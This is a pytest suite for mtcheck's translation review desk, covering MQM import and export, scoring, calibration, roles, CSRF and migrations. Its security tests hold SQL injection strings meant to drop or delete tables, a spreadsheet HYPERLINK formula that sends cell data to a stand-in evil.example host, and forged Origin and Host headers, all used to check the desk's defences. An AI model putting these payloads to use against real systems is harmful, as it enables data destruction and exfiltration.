"""The review desk (mtcheck/desk/): a run of mtcheck on real MQM-judged translations (Google's TED zh-en
judgments, tests/data/mqm-wild/) served to a team, on SQLite and on PostgreSQL (.ci/run starts one)."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from mtcheck.desk import accounts, calibrate, exchange, mqm, store
from mtcheck.desk.serve import prepare

DATA = Path(__file__).parent / "data" / "mqm-wild" / "mqm_ted_zhen.talk2.tsv"
MTCHECK = [sys.executable, "-m", "mtcheck"]
ENV = {**os.environ, "HF_HUB_OFFLINE": "1"}
PASSWORD = "correct horse battery"


def _check(table: Path, out: Path, *extra) -> subprocess.CompletedProcess:
    return subprocess.run([*MTCHECK, "check", str(table), "--fluency", "off", "--no-embedding", "-q", "-o", str(out),
                           *extra], env=ENV, capture_output=True, text=True)


def write_table(path: Path, change: dict | None = None) -> int:
    """The judged translations as mtcheck's input table: every system but the references, with the `ref`
    translation as reference (texts without their <v> markers). `change` replaces some MTs."""
    rows, refs = {}, {}
    for _, r in mqm.read_tsv(DATA):
        src, mt = mqm.split_span(r["source"])[0], mqm.split_span(r["target"])[0]
        if r["system"] == "ref":
            refs[r["seg_id"]] = mt
        elif r["system"] != "refB":
            rows[(r["system"], r["seg_id"])] = (r["doc"], src, mt)
    with open(path, "w", newline="", encoding="utf-8") as handle:
        # mtcheck reads a TSV as it is, quotes included (WMT files have unbalanced quotes): quote nothing.
        out = csv.writer(handle, delimiter="\t", quoting=csv.QUOTE_NONE, quotechar=None)
        out.writerow(["system", "doc_id", "seg_id", "src", "mt", "ref"])
        for (system, seg), (doc, src, mt) in sorted(rows.items()):
            out.writerow([system, doc, seg, src, (change or {}).get((system, seg), mt), refs[seg]])
    return len(rows)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    base = tmp_path_factory.mktemp("desk")
    rows = write_table(base / "talk2.tsv")
    done = _check(base / "talk2.tsv", base / "reports" / "talk2")
    assert done.returncode == 0, done.stderr
    return base / "reports" / "talk2", rows


def _pg_url():
    url = os.environ.get("MTCHECK_TEST_PG_URL")
    if not url and os.environ.get("MTCHECK_REQUIRE_PG") == "1":
        pytest.fail("MTCHECK_REQUIRE_PG=1 but no MTCHECK_TEST_PG_URL")
    return url


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    """An empty database of each kind (PostgreSQL's schema is emptied first)."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'desk.sqlite3'}"
    url = _pg_url()
    if not url:
        pytest.skip("no PostgreSQL (set MTCHECK_TEST_PG_URL; .ci/run starts one)")
    from sqlalchemy import create_engine, text

    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.begin() as connection:
        connection.execute(text("DROP SCHEMA public CASCADE; CREATE SCHEMA public"))
    engine.dispose()
    return url


@pytest.fixture
def served(run_dir, db_url, tmp_path):
    folder = tmp_path / "reports" / "talk2"
    shutil.copytree(run_dir[0], folder)
    result = prepare([str(folder)], db_url)
    yield result, folder
    result.db.dispose()


def client(app):
    from starlette.testclient import TestClient

    return TestClient(app, base_url="http://127.0.0.1")


def csrf_of(page_text: str) -> str:
    return re.search(r'name="csrf-token" content="([^"]+)"', page_text).group(1)


def signed_in(db, name: str):
    """A test client signed in as `name` through the login form, and its CSRF token."""
    from mtcheck.desk.app import create_app

    browser = client(create_app(db))
    form = browser.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    answer = browser.post("/login", data={"name": name, "password": PASSWORD, "csrf": token}, follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"] == "/"
    return browser, csrf_of(browser.get("/p/talk2").text)


def test_a_run_is_loaded_once_and_its_rows_come_back_in_order(served, run_dir):
    result, folder = served
    (_, name, run_id, new), = result.loaded
    assert name == "talk2" and new
    again = prepare([str(folder)], result.db.url)
    assert again.loaded[0][2] == run_id and again.loaded[0][3] is False
    from mtcheck.desk import views

    _, run = views.run_of(result.db, "talk2")
    rows = views.run_rows(result.db, run)
    assert len(rows) == run_dir[1] == 208
    assert rows[0]["system"] == "Borderline" and rows[0]["seg"] == "84"
    assert rows[0]["mt"].startswith("I want you to take a moment")


def test_google_judgments_import_onto_the_runs_segments_and_export_back(served, tmp_path):
    result, _ = served
    counts = exchange.import_tsv(result.db, DATA, "talk2")
    # 326 rows, one mark each; every judged MT of the 13 systems is a segment of the run, so only the
    # 16 `ref` and 16 `refB` translations, which mtcheck did not check, are added.
    assert counts == {"rows": 326, "marks": 326, "units_added": 32, "already_there": 0}
    assert exchange.import_tsv(result.db, DATA, "talk2")["already_there"] == 326
    from mtcheck.desk import views

    first_row = views.run_rows(result.db, views.run_of(result.db, "talk2")[1])[0]
    assert [(m["span"], m["carried"], m["run_number"]) for m in first_row["marks"]] == [
        ("take a moment", True, None), ("the", True, None), ("so far", True, None),
        ("most of what we know about the universe has", True, None)]  # shown as "carried from an import"
    rows = exchange.export_rows(result.db, "talk2")
    first = next(r for r in rows if r["system"] == "Borderline" and r["category"] == "Style/Awkward")
    assert first["target"].startswith("I want you to <v>take a moment</v> to consider")
    assert first["rater"] == "rater3" and first["severity"] == "Major" and first["seg_id"] == "84"
    out = tmp_path / "out.tsv"
    with open(out, "w", encoding="utf-8", newline="") as handle:
        assert mqm.write_tsv(rows, handle) == 326

    def key(r):
        return (r["system"], r["rater"], r["target"], r["category"], r["severity"].lower())
    original = {key(r) for _, r in mqm.read_tsv(DATA)}
    back = {key(r) for _, r in mqm.read_tsv(out)}
    # Rows whose span is in the source lose it (the desk marks the translation); the rest come back as they were.
    source_spans = {key(r) for _, r in mqm.read_tsv(DATA) if "<v>" in r["source"]}
    assert original - source_spans <= back and len(source_spans) == 12


def test_mqm_points_follow_the_judgments_weights():
    assert mqm.penalty("Accuracy/Mistranslation", "Major") == 5
    assert mqm.penalty("Fluency/Grammar", "minor") == 1
    assert mqm.penalty("Fluency/Punctuation", "Minor") == 0.1
    assert mqm.penalty("Non-translation", "Major") == 25
    assert mqm.penalty("Style/Awkward", "critical") == 10
    assert mqm.penalty(mqm.NO_ERROR, "no-error") == 0


def test_calibrate_reports_three_views_beside_chrf_bleu_and_length(served):
    result, _ = served
    exchange.import_tsv(result.db, DATA, "talk2")
    frame = calibrate.team_frame(result.db, "talk2")
    assert len(frame) == 240 and frame["quality"].notna().sum() == 208
    # Google's own score for the first Borderline translation: four major errors by rater3.
    first = frame[(frame["system"] == "Borderline") & frame["mt"].str.startswith("I want you to take")]
    assert first["mqm"].tolist() == [20.0]
    views = calibrate.views(frame)
    assert views["why"] == {}
    assert set(views["rows"]) >= {"quality", "chrf", "bleu", "length"}
    for row in views["rows"].values():
        assert all(-1 <= row[v] <= 1 for v in ("view1", "view2", "view3"))
    assert set(views["corpus"]) == {"corpus chrF++", "corpus BLEU"}
    text = calibrate.table(views)
    assert "240 MQM-marked segments, 208 of them in a run mtcheck scored" in text


def test_calibrate_says_which_view_the_marks_cannot_support(served):
    result, _ = served
    from mtcheck.desk import review, views as pages

    _, run = pages.run_of(result.db, "talk2")
    lead = accounts.local_lead(result.db, "lead")
    unit = pages.run_rows(result.db, run)[0]["unit"]
    review.add_mark(result.db, lead, unit, run.id, 0, 5, "Accuracy/Mistranslation", "major")
    out = calibrate.views(calibrate.team_frame(result.db, "talk2"))
    assert "view1" in out["why"] and "three are needed" in out["why"]["view3"]
    assert all(row["view3"] is None for row in out["rows"].values())


def _accounts(db):
    accounts.add_editor(db, "ana", "editor", PASSWORD)
    accounts.add_editor(db, "ben", "editor", PASSWORD)
    accounts.add_editor(db, "lea", "lead", PASSWORD)


def test_a_second_editors_save_is_refused_with_the_first_shown_and_only_a_lead_overrides(served):
    result, _ = served
    _accounts(result.db)
    ana, ana_token = signed_in(result.db, "ana")
    ben, ben_token = signed_in(result.db, "ben")
    lea, lea_token = signed_in(result.db, "lea")
    rows = ana.get("/api/p/talk2/rows").json()
    unit, run = rows["rows"][3]["unit"], rows["run"]

    def save(who, token, status, note, version):
        return who.post("/api/review", json={"unit": unit, "run": run, "status": status, "note": note,
                                             "version": version}, headers={"X-CSRF-Token": token})
    first = save(ana, ana_token, "fixed", "tense", 0)
    assert first.status_code == 200 and first.json()["version"] == 1
    # Ben's page still shows version 0: his save is refused, and he sees Ana's review.
    second = save(ben, ben_token, "ok", "", 0)
    assert second.status_code == 409 and "ana reviewed this segment" in second.json()["error"]
    assert second.json()["current"] | {"at": ""} == {"status": "fixed", "note": "tense", "version": 1, "by": "ana",
                                                    "at": "", "run": run}
    # Knowing it changes nothing: the review is Ana's.
    assert save(ben, ben_token, "ok", "", 1).status_code == 409
    # Ana in a second tab with a stale page is refused too, then a lead overrides knowingly.
    assert save(ana, ana_token, "ok", "", 1).status_code == 200
    stale = save(ana, ana_token, "false-alarm", "", 1)
    assert stale.status_code == 409 and "changed this segment since you loaded it" in stale.json()["error"]
    assert save(lea, lea_token, "fixed", "checked", 2).json()["by"] == "lea"
    from sqlalchemy import select

    from mtcheck.desk.models import Audit

    with result.db.session() as session:
        log = [(a.editor, a.action, json.loads(a.old), json.loads(a.new))
               for a in session.scalars(select(Audit).where(Audit.unit_id == unit).order_by(Audit.id))]
    assert log == [("ana", "review", {"status": "", "note": ""}, {"status": "fixed", "note": "tense"}),
                   ("ana", "review", {"status": "fixed", "note": "tense"}, {"status": "ok", "note": ""}),
                   ("lea", "review", {"status": "ok", "note": ""}, {"status": "fixed", "note": "checked"})]


def test_the_audit_log_cannot_be_rewritten(served):
    result, _ = served
    _accounts(result.db)
    from sqlalchemy import text
    from sqlalchemy.exc import DBAPIError

    for statement in ("UPDATE audit SET editor = 'someone else'", "DELETE FROM audit"):
        with pytest.raises(DBAPIError, match="append-only"):
            with result.db.engine.begin() as connection:
                connection.execute(text(statement))
    with result.db.engine.connect() as connection:
        assert connection.execute(text("SELECT count(*) FROM audit")).scalar() == 3


def test_reviews_and_marks_carry_over_to_the_next_run_and_say_so(served, tmp_path, run_dir):
    result, folder = served
    from mtcheck.desk import review, views

    _, run1 = views.run_of(result.db, "talk2")
    lead = accounts.local_lead(result.db, "lead")
    rows1 = views.run_rows(result.db, run1)
    kept, changed = rows1[0], rows1[1]
    for row in (kept, changed):
        review.save_review(result.db, lead, row["unit"], run1.id, "fixed", "", 0)
    review.add_mark(result.db, lead, kept["unit"], run1.id, 14, 27, "Style/Awkward", "major")
    # The next run: one system's translation of one segment changed; the same folder name joins the project.
    table = tmp_path / "talk2-v2.tsv"
    write_table(table, change={(changed["system"], changed["seg"]): "A different translation."})
    again = tmp_path / "v2" / "talk2"
    done = _check(table, again)
    assert done.returncode == 0, done.stderr
    (_, name, run2_id, new), = prepare([str(again)], result.db.url).loaded
    assert name == "talk2" and new and run2_id != run1.id
    rows2 = {(r["system"], r["seg"]): r for r in views.run_rows(result.db, views.run_of(result.db, "talk2")[1])}
    carried = rows2[(kept["system"], kept["seg"])]
    assert carried["review"]["status"] == "fixed" and carried["review"]["carried"] and carried["review"]["run_number"] == 1
    assert carried["marks"][0]["span"] == "take a moment" and carried["marks"][0]["carried"]
    fresh = rows2[(changed["system"], changed["seg"])]
    assert fresh["mt"] == "A different translation." and fresh["review"]["status"] == "" and not fresh["marks"]


def test_check_reads_the_teams_verdicts_from_the_database(served, tmp_path):
    result, _ = served
    from mtcheck.desk import review, views

    # Two translations left untranslated (their Chinese source as MT), so that checks fire on them.
    source = {r["seg_id"]: mqm.split_span(r["source"])[0] for _, r in mqm.read_tsv(DATA)}
    table = tmp_path / "talk2.tsv"
    write_table(table, change={("SMU", "86"): source["86"], ("SMU", "87"): source["87"]})
    first = tmp_path / "first" / "talk2"
    assert _check(table, first).returncode == 0
    prepare([str(first)], result.db.url)
    _, run = views.run_of(result.db, "talk2")
    lead = accounts.local_lead(result.db, "lead")
    flagged = {r["seg"]: r for r in views.run_rows(result.db, run) if r["checks"] and r["system"] == "SMU"}
    assert set(flagged) == {"86", "87"}
    review.save_review(result.db, lead, flagged["86"]["unit"], run.id, "false-alarm", "a name", 0)
    review.save_review(result.db, lead, flagged["87"]["unit"], run.id, "fixed", "", 0)
    out = tmp_path / "rerun" / "talk2"
    done = _check(table, out, "--verdicts", result.db.url)
    assert done.returncode == 0, done.stderr
    verdicts = json.loads((out / "summary.json").read_text())["verdicts"]
    assert verdicts["reviewed"] == 2 and verdicts["suppressed_findings"] >= 1
    assert verdicts["file"].endswith("(project talk2)")
    with open(out / "segments.csv", encoding="utf-8") as handle:
        again = {r["seg_id"]: r for r in csv.DictReader(handle) if r["system"] == "SMU"}
    assert "Suppressed" in again["86"]["explanation"] and again["86"]["severity"] == "ok"
    assert "Suppressed" not in again["87"]["explanation"] and again["87"]["severity"] != "ok"


def test_verdicts_from_a_database_without_the_project_is_a_one_line_error(tmp_path, run_dir):
    url = f"sqlite:///{tmp_path / 'empty.sqlite3'}"
    store.open_db(url).dispose()
    table = tmp_path / "t.tsv"
    write_table(table)
    done = _check(table, tmp_path / "out", "--verdicts", url)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "mtcheck: error: the desk's database has no project (serve a report folder with mtcheck serve first)"]


def test_signing_in_cookies_and_csrf(served):
    result, _ = served
    _accounts(result.db)
    from mtcheck.desk.app import create_app

    anonymous = client(create_app(result.db))
    assert anonymous.get("/api/p/talk2/rows").status_code == 401
    assert anonymous.get("/p/talk2", follow_redirects=False).headers["location"] == "/login"
    form = anonymous.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    wrong = anonymous.post("/login", data={"name": "ana", "password": "not it at all", "csrf": token},
                           follow_redirects=False)
    assert wrong.headers["location"] == "/login?failed=1"
    assert anonymous.post("/login", data={"name": "ana", "password": PASSWORD}, follow_redirects=False).status_code == 403
    ok = anonymous.post("/login", data={"name": "ana", "password": PASSWORD, "csrf": token}, follow_redirects=False)
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    page = anonymous.get("/p/talk2")
    assert "script-src 'nonce-" in page.headers["content-security-policy"]
    fresh = csrf_of(page.text)
    assert fresh != token  # the session is new after signing in
    unit = anonymous.get("/api/p/talk2/rows").json()["rows"][0]["unit"]
    body = {"unit": unit, "run": 1, "status": "ok", "note": "", "version": 0}
    assert anonymous.post("/api/review", json=body).status_code == 403
    assert anonymous.post("/api/review", json=body, headers={"X-CSRF-Token": fresh,
                                                             "Origin": "http://evil.example"}).status_code == 403
    assert anonymous.post("/api/review", json=body, headers={"X-CSRF-Token": fresh}).status_code == 200
    # DNS rebinding: a page of another host name that resolves to 127.0.0.1 gets nothing.
    assert anonymous.get("/api/p/talk2/rows", headers={"host": "evil.example"}).status_code == 400


def test_roles_editors_review_leads_assign_and_see_progress(served):
    result, _ = served
    _accounts(result.db)
    ana, ana_token = signed_in(result.db, "ana")
    lea, lea_token = signed_in(result.db, "lea")
    units = [r["unit"] for r in ana.get("/api/p/talk2/rows").json()["rows"][:5]]
    assert ana.get("/p/talk2/lead").status_code == 403
    assert ana.post("/api/assign", json={"units": units, "editor": "ana"},
                    headers={"X-CSRF-Token": ana_token}).status_code == 403
    assert lea.post("/api/assign", json={"units": units, "editor": "ana"},
                    headers={"X-CSRF-Token": lea_token}).json() == {"assigned": 5}
    ana.post("/api/review", json={"unit": units[0], "run": 1, "status": "fixed", "note": "", "version": 0},
             headers={"X-CSRF-Token": ana_token})
    for who, token, severity in ((ana, ana_token, "major"), (lea, lea_token, "minor")):
        mark = who.post("/api/marks", json={"unit": units[0], "run": 1, "start": 14, "end": 27,
                                            "category": "Style/Awkward", "severity": severity},
                        headers={"X-CSRF-Token": token})
        assert mark.status_code == 200 and mark.json()["span"] == "take a moment"
    outside = ana.post("/api/marks", json={"unit": units[1], "run": 1, "start": 5, "end": 10_000,
                                           "category": "Style/Awkward", "severity": "minor"},
                       headers={"X-CSRF-Token": ana_token})
    assert outside.status_code == 400 and "not inside the translation" in outside.json()["error"]
    page = lea.get("/p/talk2/lead")
    assert page.status_code == 200
    editors = re.search(r'<table id="editors">(.*?)</table>', page.text, re.S).group(1)
    # ana: 5 assigned, 1 of them done (reviewed and marked), 1 review saved, 1 segment marked.
    assert re.search(r"<td>ana</td><td>5</td><td>1</td><td>1</td><td>1</td>", editors)
    agreement = re.search(r'<table id="agreement">(.*?)</table>', page.text, re.S).group(1)
    assert "<td>ana and lea</td><td>1</td><td>too few</td><td>1.0</td>" in agreement


def test_serving_beyond_this_machine_needs_accounts(run_dir, tmp_path):
    from mtcheck.errors import UsageError

    folder = tmp_path / "talk2"
    shutil.copytree(run_dir[0], folder)
    url = f"sqlite:///{tmp_path / 'desk.sqlite3'}"
    with pytest.raises(UsageError, match="refusing to serve on 0.0.0.0 without accounts"):
        prepare([str(folder)], url, host="0.0.0.0")
    alone = prepare([str(folder)], url)
    assert alone.local_editor is not None and alone.local_editor.role == "lead"
    accounts.add_editor(alone.db, "lea", "lead", PASSWORD)
    shared = prepare([str(folder)], url, host="0.0.0.0")
    assert shared.local_editor is None
    for served in (alone, shared):
        served.db.dispose()


def test_serve_command_errors_are_one_line(tmp_path):
    done = subprocess.run([*MTCHECK, "serve", str(tmp_path)], env=ENV, capture_output=True, text=True)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        f"mtcheck: error: '{tmp_path}' is not a report folder (no segments.csv) (give a folder that mtcheck check wrote)"]
    bad = subprocess.run([*MTCHECK, "calibrate", "mysql://x/y"], env=ENV, capture_output=True, text=True)
    assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1 and "not a database URL" in bad.stderr


def test_processes_opening_a_new_database_at_once_all_get_it(db_url):
    """A server and an import started together on a new database: one creates the tables, the others wait."""
    code = f"from mtcheck.desk.store import open_db; open_db({db_url!r}).dispose()"
    runs = [subprocess.Popen([sys.executable, "-c", code], env=ENV, stderr=subprocess.PIPE, text=True)
            for _ in range(3)]
    errors = [(p.wait(timeout=120), p.stderr.read()) for p in runs]
    assert errors == [(0, "")] * 3


def test_the_migrations_build_exactly_the_models_schema_and_upgrade_old_databases(db_url):
    from alembic import command
    from alembic.autogenerate import compare_metadata
    from alembic.config import Config
    from alembic.migration import MigrationContext
    from sqlalchemy import text

    from mtcheck.desk.models import Base

    db = store.open_db(db_url)
    with db.engine.connect() as connection:
        assert compare_metadata(MigrationContext.configure(connection), Base.metadata) == []
    # A database made by the first revision, with a run in it, upgrades and keeps its rows.
    config = Config()
    config.set_main_option("script_location", "mtcheck.desk:migrations")
    with db.engine.begin() as connection:
        config.attributes["connection"] = connection
        command.downgrade(config, "0001")
        connection.execute(text("INSERT INTO project (name, created_at) VALUES ('old', CURRENT_TIMESTAMP)"))
        connection.execute(text("INSERT INTO run (project_id, folder, digest, rows, loaded_at) "
                                "SELECT id, '/r', 'abc', 3, CURRENT_TIMESTAMP FROM project"))
    db.dispose()
    again = store.open_db(db_url)
    with again.engine.connect() as connection:
        assert connection.execute(text("SELECT name, target_lang FROM run JOIN project ON project.id = run.project_id")
                                  ).all() == [("old", "en")]
    again.dispose()


def test_calibrate_write_needs_enough_marks_and_writes_nothing_below(served, tmp_path):
    result, _ = served
    exchange.import_tsv(result.db, DATA, "talk2")
    out = tmp_path / "team.json"
    done = subprocess.run([*MTCHECK, "calibrate", result.db.url, "--write", str(out)], env=ENV, capture_output=True,
                          text=True)
    assert done.returncode == 1, done.stderr
    assert "208 scored, MQM-marked segments; 500 are needed" in done.stdout and not out.exists()


def test_a_fit_is_measured_on_held_out_sources_and_refused_when_it_loses(served):
    result, _ = served
    from mtcheck.desk import teamhead

    exchange.import_tsv(result.db, DATA, "talk2")
    frame = calibrate.team_frame(result.db, "talk2")
    fitted = teamhead.fit(frame, "en", min_units=100)
    # Every translation of a held-out source is held out with it: no source is on both sides.
    held = frame[frame["quality"].notna()]["src_key"].map(teamhead.held_out)
    assert fitted["held_out_units"] == int(held.sum()) and fitted["train_units"] == int((~held).sum())
    assert set(fitted["table"]) >= {"team head", "shipped head", "equal-weight sum of all inputs", "-length", "chrf"}
    # On 156 training segments the fit learns noise (chrF++ pointing the wrong way) and loses on the
    # held-out part: it is not offered.
    assert fitted["status"] == "no-gain" and fitted["gain"] < 0
    assert "worse than the shipped head" in teamhead.describe(fitted)


def test_check_reads_a_calibration_and_names_it(served, tmp_path):
    result, _ = served
    from mtcheck.desk import teamhead
    from mtcheck.quality.fusion import apply_head, quality_from_points

    exchange.import_tsv(result.db, DATA, "talk2")
    fitted = teamhead.fit(calibrate.team_frame(result.db, "talk2"), "en", min_units=100)
    path = tmp_path / "team.json"
    path.write_text(json.dumps(teamhead.calibration_file(fitted, "talk2")), encoding="utf-8")
    table = tmp_path / "talk2.tsv"
    write_table(table)
    out = tmp_path / "calibrated"
    done = _check(table, out, "--calibration", str(path))
    assert done.returncode == 0, done.stderr
    summary = json.loads((out / "summary.json").read_text())
    assert re.fullmatch(r"mqm-equal-[\w.-]+\+team-talk2-\d{4}-\d\d-\d\d", summary["fusion"])
    import pandas as pd

    rows = pd.read_csv(out / "segments.csv", dtype={"checks": str}, keep_default_na=False)
    clean = rows[rows["checks"] == ""].head(20)
    from mtcheck.desk.teamhead import feature_frame

    frame = pd.DataFrame({"src": clean["src"], "mt": clean["mt"], "ref": clean["ref"],
                          "scores": [{"chrf": c, "bleu": b} for c, b in zip(clean["chrf"], clean["bleu"])]})
    feats, keys = feature_frame(frame)
    assert set(keys) == {fitted["key"]}
    expected = quality_from_points(apply_head(fitted["head"], feats)[1])
    assert list(clean["quality"]) == pytest.approx(list(expected), abs=0.01)
    broken = tmp_path / "broken.json"
    broken.write_text('{"version": "x", "heads": {"en": {"ref": {"features": ["xsim"]}}}}')
    bad = _check(table, tmp_path / "bad", "--calibration", str(broken))
    assert bad.returncode == 2 and "the calibration's head en/ref is not one mtcheck can use" in bad.stderr


def test_the_configuration_names_a_calibration_beside_it(tmp_path, run_dir):
    from mtcheck.editorial.config import load_config
    from mtcheck.errors import UsageError

    cfg = tmp_path / "mtcheck.toml"
    cfg.write_text('checks = ["doubled-word"]\ncalibration = "team.json"\n', encoding="utf-8")
    loaded = load_config(cfg)
    assert loaded.values == {"checks": ["doubled-word"], "calibration": str(tmp_path / "team.json")}
    cfg.write_text("calibration = 3\n", encoding="utf-8")
    with pytest.raises(UsageError, match="'calibration' must be a file name"):
        load_config(cfg)


def test_mqm_tsv_keeps_quotes_and_flattens_line_breaks(tmp_path):
    row = {"system": "A", "doc": "d", "doc_id": 1, "seg_id": 1, "rater": "r", "source": 'He said "no".',
           "target": 'Er sagte <v>"nein"</v>.\r\nZweite Zeile\tmit Tab', "category": "Style/Awkward", "severity": "Minor"}
    path = tmp_path / "q.tsv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        mqm.write_tsv([row], handle)
    (_, back), = list(mqm.read_tsv(path))
    assert back["source"] == 'He said "no".'
    assert mqm.split_span(back["target"]) == ('Er sagte "nein". Zweite Zeile mit Tab', 9, 15)


def test_malformed_requests_get_a_sentence_not_a_crash(served):
    result, _ = served
    from mtcheck.desk.app import create_app

    browser = client(create_app(result.db, local_editor=accounts.local_lead(result.db, "lead")))
    token = csrf_of(browser.get("/p/talk2").text)
    headers = {"X-CSRF-Token": token}
    for body, words in (({"unit": "1", "run": 1, "version": 0}, "'unit' must be a whole number"),
                        ({"unit": 1, "run": 1}, "'version' must be a whole number"),
                        ({"unit": 1, "run": 1, "version": 0, "status": "maybe"}, "unknown status 'maybe'"),
                        ({"unit": 10**6, "run": 1, "version": 0}, "no unit 1000000")):
        answer = browser.post("/api/review", json=body, headers=headers)
        assert answer.status_code == 400 and words in answer.json()["error"]
    assert browser.post("/api/review", content=b"not json", headers=headers).json() == {"error": "the request is not JSON"}
    assert browser.post("/api/assign", json={"units": [1, "x"]}, headers=headers).status_code == 400
    assert browser.get("/p/no-such-project").status_code == 404


def test_several_report_folders_are_several_projects(run_dir, tmp_path):
    from mtcheck.desk.app import create_app

    for name in ("news", "talks"):
        shutil.copytree(run_dir[0], tmp_path / name)
    served = prepare([str(tmp_path / "news"), str(tmp_path / "talks")])
    assert [(p, new) for _, p, _, new in served.loaded] == [("news", True), ("talks", True)]
    assert Path(served.db.url[len("sqlite:///"):]) == tmp_path / store.DEFAULT_DB_NAME
    page = client(create_app(served.db, local_editor=served.local_editor)).get("/")
    assert re.findall(r'<a href="/p/(\w+)">', page.text) == ["news", "talks"]
    served.db.dispose()


def test_formula_and_markup_payloads_are_inert_in_the_mqm_export(served, tmp_path):
    result, _ = served
    payload = tmp_path / "payload.tsv"
    target = '=HYPERLINK("http://evil.example/?d="&A1,"<v>click</v>")'
    with open(payload, "w", encoding="utf-8", newline="") as handle:
        mqm.write_tsv([{"system": "X", "doc": "+doc", "doc_id": 1, "seg_id": 1, "rater": "@evil", "source": "-1 <b>src</b>",
                        "target": target, "category": "Accuracy/Mistranslation", "severity": "Major"}], handle)
    raw = payload.read_text(encoding="utf-8").splitlines()[1].split("\t")
    assert raw[1] == "'+doc" and raw[4] == "'@evil" and raw[5] == "'-1 <b>src</b>" and raw[6].startswith("'=HYPERLINK")
    assert exchange.import_tsv(result.db, payload, "talk2")["marks"] == 1
    rows = [r for r in exchange.export_rows(result.db, "talk2") if r["system"] == "X"]
    assert rows == [{"system": "X", "doc": "+doc", "doc_id": 1, "seg_id": 1, "rater": "@evil", "source": "-1 <b>src</b>",
                     "target": target, "category": "Accuracy/Mistranslation", "severity": "Major"}]
    out = tmp_path / "out.tsv"
    with open(out, "w", encoding="utf-8", newline="") as handle:
        mqm.write_tsv(rows, handle)
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in out.read_text().splitlines() for cell in line.split("\t"))
    assert exchange.import_tsv(result.db, out, "talk2")["already_there"] == 1
    from mtcheck.errors import UsageError

    for name in ("=cmd", "@x", "-x", "<b>x</b>", "two words", ""):
        with pytest.raises(UsageError, match="cannot be an editor's name"):
            accounts.add_editor(result.db, name, "editor", PASSWORD)


INJECTIONS = ("1 OR 1=1", "'; DROP TABLE review; --", "1; DELETE FROM audit", "\" OR \"\"=\"", "0 UNION SELECT * FROM editor")


def test_sql_injection_in_every_parameter_is_refused_and_changes_nothing(served):
    result, _ = served
    _accounts(result.db)
    from sqlalchemy import text

    from mtcheck.desk.app import create_app

    def counts():
        with result.db.engine.connect() as connection:
            return {t: connection.execute(text(f"SELECT count(*) FROM {t}")).scalar()
                    for t in ("editor", "review", "mark", "audit", "unit", "segment", "assignment")}
    before = counts()
    anonymous = client(create_app(result.db))
    form = anonymous.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    for bad in INJECTIONS:
        for data in ({"name": bad, "password": PASSWORD}, {"name": "ana", "password": bad}):
            answer = anonymous.post("/login", data={**data, "csrf": token}, follow_redirects=False)
            assert answer.headers["location"] == "/login?failed=1"
    lea, lea_token = signed_in(result.db, "lea")
    headers = {"X-CSRF-Token": lea_token}
    unit = lea.get("/api/p/talk2/rows").json()["rows"][0]["unit"]
    for bad in INJECTIONS:
        from urllib.parse import quote

        assert lea.get(f"/p/{quote(bad, safe='')}").status_code == 404
        assert lea.get(f"/api/p/{quote(bad, safe='')}/rows").status_code == 404
        assert lea.get("/api/p/talk2/rows", params={"run": bad}).status_code == 200  # not a number: the newest run
        assert lea.post(f"/api/marks/{quote(bad, safe='')}/remove", headers=headers).status_code == 404
        for field in ("unit", "run", "version"):
            body = {"unit": unit, "run": 1, "status": "ok", "note": "", "version": 0, field: bad}
            assert lea.post("/api/review", json=body, headers=headers).status_code == 400
        assert lea.post("/api/review", json={"unit": unit, "run": 1, "status": bad, "note": "", "version": 0},
                        headers=headers).status_code == 400
        for field in ("category", "severity"):
            body = {"unit": unit, "run": 1, "start": 0, "end": 3, "category": "Other", "severity": "minor", field: bad}
            assert lea.post("/api/marks", json=body, headers=headers).status_code == 400
        assert lea.post("/api/assign", json={"units": [unit], "editor": bad}, headers=headers).status_code == 400
    assert counts() == before
    # As a note or a comment it is only text, stored as written.
    saved = lea.post("/api/review", json={"unit": unit, "run": 1, "status": "ok", "note": INJECTIONS[1], "version": 0},
                     headers=headers)
    assert saved.status_code == 200 and saved.json()["note"] == INJECTIONS[1]
    assert counts()["review"] == before["review"] + 1


def test_googles_marks_give_back_googles_own_segment_scores(served):
    """Every one of the 240 translations (13 systems and two references, 16 segments) scores exactly what
    Google's avg_seg_scores file says, with the weights of mqm.py."""
    result, _ = served
    exchange.import_tsv(result.db, DATA, "talk2")
    seg_of = {}
    for _, r in mqm.read_tsv(DATA):
        seg_of[(r["system"], mqm.split_span(r["target"])[0])] = r["seg_id"]
    frame = calibrate.team_frame(result.db, "talk2")
    ours = {(s, seg_of[(s, mt)]): points for s, mt, points in zip(frame["system"], frame["mt"], frame["mqm"])}
    google = {}
    with open(DATA.with_name("mqm_ted_zhen.talk2.avg_seg_scores.tsv"), encoding="utf-8") as handle:
        next(handle)
        for line in handle:
            system, score, seg = line.split()
            # The scores file names the two references ref-A and ref-B; the marks file, ref and refB.
            google[({"ref-A": "ref", "ref-B": "refB"}.get(system, system), seg)] = -float(score)
    assert len(google) == 240 and set(ours) == set(google)
    assert ours == pytest.approx(google, abs=1e-6)


def test_mqm_tsv_saved_by_excel_imports_and_a_binary_file_is_a_one_line_error(tmp_path):
    """Google's rows re-saved as Excel's "Unicode Text" (UTF-16) and as Windows-1252 text import the same
    marks; a file that is not text is one line naming it, exit 2."""
    text = DATA.read_text(encoding="utf-8")
    latin = text.splitlines()[0] + "\nA\td\t1\t1\tr1\tCafé crème\t<v>Café</v> crème\tStyle/Awkward\tMinor\n"
    (tmp_path / "utf16.tsv").write_text(text, encoding="utf-16")
    (tmp_path / "cp1252.tsv").write_bytes(latin.encode("cp1252"))
